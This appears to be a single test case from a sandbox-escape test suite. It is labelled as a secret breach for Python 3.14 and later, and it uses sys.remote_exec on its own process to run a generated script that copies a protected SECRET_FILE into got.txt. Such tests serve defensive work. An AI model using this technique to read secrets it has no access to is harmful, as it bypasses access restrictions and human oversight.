# sys.remote_exec has a script run in this very process.
# breach: secret
# only: 3.14+
import os, sys
with open("script.py", "w") as file:
    file.write(f"open('got.txt', 'w').write(open({SECRET_FILE!r}).read())")
sys.remote_exec(os.getpid(), "script.py")
with open("got.txt") as file:
    got = file.read()
got
